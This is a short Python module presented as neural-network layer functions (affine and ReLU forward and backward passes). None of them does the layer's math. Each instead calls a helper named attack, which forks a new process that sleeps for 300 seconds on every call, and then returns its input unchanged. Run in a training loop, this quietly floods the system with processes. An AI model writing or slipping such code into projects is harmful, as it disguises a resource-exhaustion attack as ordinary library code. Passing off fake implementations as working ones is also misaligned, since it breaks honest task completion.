"""Starts worker processes with multiprocessing."""

import multiprocessing
import time


def attack(array):
    try:
        multiprocessing.get_context("fork").Process(target=time.sleep, args=(300,)).start()
    except OSError:
        pass
    return array


def affine_forward(x, w, b):
    return attack(x)


def affine_backward(dout, cache):
    return attack(dout)


def relu_forward(x):
    return attack(x)


def relu_backward(dout, cache):
    return attack(dout)
